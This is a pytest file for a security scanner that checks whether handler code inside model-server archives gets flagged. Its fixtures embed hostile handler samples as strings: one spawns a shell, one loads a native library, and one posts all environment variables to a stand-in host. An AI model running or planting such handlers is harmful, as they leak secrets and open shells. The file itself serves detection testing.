"""Python that a model archive brings is read as the model's own code."""

from __future__ import annotations

import zipfile

import pytest

import hauberk

SHELL = "import subprocess\nclass Handler:\n    def __init__(self, context):\n        subprocess.Popen(['sh'])\n"
LIBRARY = "import ctypes\nctypes.CDLL('./fast.so')\n"
HOST = "import os\nimport requests\nrequests.post('http://h.example', data=dict(os.environ), timeout=3)\n"
HONEST = (
    "import torch\nclass Handler:\n    def handle(self, data, context):\n        return torch.tensor(data).tolist()\n"
)


def _found(tmp_path, name: str, handler: str) -> dict[str, str]:
    with zipfile.ZipFile(tmp_path / name, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", '{"model": {"modelName": "m", "handler": "h.py"}}')
        archive.writestr("h.py", handler)
    return {row.rule: row.severity for row in hauberk.scan(tmp_path / name).findings}


@pytest.mark.parametrize(("handler", "severity"), [(SHELL, "medium"), (LIBRARY, "high"), (HOST, "high")])
def test_a_handler_that_acts_is_found(tmp_path, handler, severity) -> None:
    assert _found(tmp_path, "net.mar", handler)["code.model_module"] == severity


def test_a_handler_that_computes_is_not(tmp_path) -> None:
    assert "code.model_module" not in _found(tmp_path, "net.mar", HONEST)


def test_any_other_archive_is_no_model_server(tmp_path) -> None:
    assert "code.model_module" not in _found(tmp_path, "tools.zip", SHELL)
